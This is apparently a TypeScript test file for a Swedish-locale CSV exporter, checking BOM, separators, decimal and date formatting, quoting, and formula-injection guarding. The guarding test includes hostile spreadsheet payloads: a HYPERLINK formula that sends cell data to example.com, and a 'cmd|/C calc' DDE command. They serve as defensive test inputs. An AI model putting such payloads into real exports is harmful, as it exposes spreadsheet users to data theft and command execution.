import { expect } from 'chai';
import fc from 'fast-check';
import { toCsv, decimalText } from '../../../src/platform/documents/csv.js';
import type { DocumentColumn, CellValue } from '../../../src/platform/documents/table.js';
import { ore } from '../../../src/platform/money.js';

const bom = Buffer.from([0xef, 0xbb, 0xbf]);

function csvText(columns: DocumentColumn[], rows: CellValue[][]): string {
  const bytes = toCsv({ columns, rows });
  expect(bytes.subarray(0, 3).equals(bom)).to.equal(true);
  return bytes.subarray(3).toString('utf8');
}

/** The one field of a one-column CSV's first data row, unquoted as a spreadsheet reads it. */
function onlyField(text: string): string {
  const body = text.slice(text.indexOf('\r\n') + 2, -2);
  return body.startsWith('"') ? body.slice(1, -1).replaceAll('""', '"') : body;
}

describe('platform/documents/csv', () => {
  it('when a table is written, then the bytes begin with a UTF-8 BOM, fields are split by ";" and lines end in CRLF', () => {
    const text = csvText(
      [{ header: 'Namn' }, { header: 'By' }],
      [
        ['Åsa Öberg', 'Rusksele'],
        ['Áilu Ŋuolla', 'Čeavččageađge'],
      ],
    );
    expect(text).to.equal('Namn;By\r\nÅsa Öberg;Rusksele\r\nÁilu Ŋuolla;Čeavččageađge\r\n');
  });

  it('when numbers are written, then decimals have a comma, amounts two decimals, and negatives stay numbers', () => {
    const text = csvText(
      [
        { header: 'Belopp', kind: 'amount' },
        { header: 'Timmar', kind: 'decimal', decimals: 2 },
        { header: 'Andel', kind: 'decimal' },
        { header: 'Antal', kind: 'integer' },
        { header: 'Text', kind: 'text' },
      ],
      [
        [ore(123450), 1.5, 0.25, 3, -7.5],
        [ore(-5), -0.001, -2.5, -2, 10n],
        [ore(0), 1234.567, 1e21, 9007199254740993n, 0],
      ],
    );
    expect(text.split('\r\n')).to.deep.equal([
      'Belopp;Timmar;Andel;Antal;Text',
      '1234,50;1,50;0,25;3;-7,5',
      '-0,05;0,00;-2,5;-2;10',
      '0,00;1234,57;1000000000000000000000;9007199254740993;0',
      '',
    ]);
  });

  it('when dates are written, then they are YYYY-MM-DD; a Date or an impossible day is refused', () => {
    expect(csvText([{ header: 'Datum', kind: 'date' }], [['2026-01-05'], [null]])).to.equal('Datum\r\n2026-01-05\r\n\r\n');
    expect(() => toCsv({ columns: [{ header: 'Datum', kind: 'date' }], rows: [['2026-02-30']] })).to.throw(
      TypeError,
      /calendar date/,
    );
    expect(() => toCsv({ columns: [{ header: 'Datum', kind: 'date' }], rows: [[new Date() as unknown as CellValue]] })).to.throw(
      TypeError,
      /calendar date/,
    );
  });

  it('when an amount is not whole öre or a number column gets text, then it is refused (no floats, no guessing)', () => {
    expect(() => toCsv({ columns: [{ header: 'Belopp', kind: 'amount' }], rows: [[12.5]] })).to.throw(TypeError, /öre/);
    expect(() => toCsv({ columns: [{ header: 'Belopp', kind: 'amount' }], rows: [['1234,50']] })).to.throw(TypeError, /numbers/);
    expect(() => toCsv({ columns: [{ header: 'Antal', kind: 'integer' }], rows: [[1.5]] })).to.throw(TypeError, /whole/);
  });

  it('when cells hold ";", quotes or line breaks, then they are quoted and quotes doubled', () => {
    const text = csvText(
      [{ header: 'Beskrivning' }, { header: 'Tom' }],
      [
        ['Snö; is', null],
        ['Kallad "Ŋuolla"', undefined],
        ['rad ett\nrad två', ''],
        ['rad ett\r\nrad två', 'x'],
      ],
    );
    expect(text).to.equal(
      'Beskrivning;Tom\r\n"Snö; is";\r\n"Kallad ""Ŋuolla""";\r\n"rad ett\nrad två";\r\n"rad ett\r\nrad två";x\r\n',
    );
  });

  it('when text begins like a formula, then a leading apostrophe makes it text', () => {
    const column = [{ header: 'Namn' }];
    const guarded = (value: string) => onlyField(csvText(column, [[value]]));
    expect(guarded('=HYPERLINK("http://example.com/?"&A1;"klicka")')).to.equal(`'=HYPERLINK("http://example.com/?"&A1;"klicka")`);
    expect(guarded('+46 70 123 45 67')).to.equal("'+46 70 123 45 67");
    expect(guarded('-2+3+cmd|/C calc!A0')).to.equal("'-2+3+cmd|/C calc!A0");
    expect(guarded('-5')).to.equal("'-5"); // typed into a text field: text, not a number
    expect(guarded('@SUM(1+1)')).to.equal("'@SUM(1+1)");
    expect(guarded('\t=1+1')).to.equal("'\t=1+1");
    expect(guarded('\r=1+1')).to.equal("'\r=1+1");
    expect(guarded('＝1+1')).to.equal("'＝1+1");
    expect(guarded('Åsa = Åsa')).to.equal('Åsa = Åsa');
  });

  it('when a number is negative, then it is written as a number without the apostrophe', () => {
    const text = csvText(
      [{ header: 'Belopp', kind: 'amount' }, { header: 'Antal', kind: 'integer' }, { header: 'Värde' }],
      [[ore(-123450), -3, -1.25]],
    );
    expect(text.split('\r\n')[1]).to.equal('-1234,50;-3;-1,25');
  });

  it('for any text, the cell a spreadsheet reads never starts a formula and keeps the text', () => {
    const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'grapheme', minLength: 1 }),
          fc.tuple(fc.constantFrom(...triggers), fc.string()).map(([first, rest]) => first + rest),
        ),
        (value) => {
          const field = onlyField(csvText([{ header: 'T' }], [[value]]));
          if (triggers.includes(value[0]!)) expect(field).to.equal(`'${value}`);
          else expect(field).to.equal(value);
        },
      ),
    );
  });

  it('for any whole number of öre, the amount reads back exactly as kronor with a comma', () => {
    fc.assert(
      fc.property(fc.integer({ min: -Number.MAX_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER }), (value) => {
        const field = onlyField(csvText([{ header: 'Belopp', kind: 'amount' }], [[ore(value)]]));
        expect(field).to.match(/^-?\d+,\d\d$/);
        expect(BigInt(field.replace(',', ''))).to.equal(BigInt(value));
      }),
    );
  });

  it('decimalText writes no exponent, no grouping and no minus on zero', () => {
    expect(decimalText(1e-7)).to.equal('0,0000001');
    expect(decimalText(-0)).to.equal('0');
    expect(decimalText(-0.004, 2)).to.equal('0,00');
    expect(decimalText(1234567.891, 1)).to.equal('1234567,9');
  });
});
